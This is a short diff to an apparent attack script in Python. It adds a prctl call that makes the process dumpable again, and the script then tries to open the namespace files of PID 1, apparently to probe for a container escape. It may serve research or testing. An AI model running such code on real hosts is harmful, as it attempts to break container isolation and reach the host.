@@ -15,6 +15,7 @@ libc = ctypes.CDLL(None, use_errno=True)
 
 def attack():
     got = {}
+    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: the files of this process are its user's again
     for name in ("mnt", "pid", "net", "user", "cgroup"):
         try:
             os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
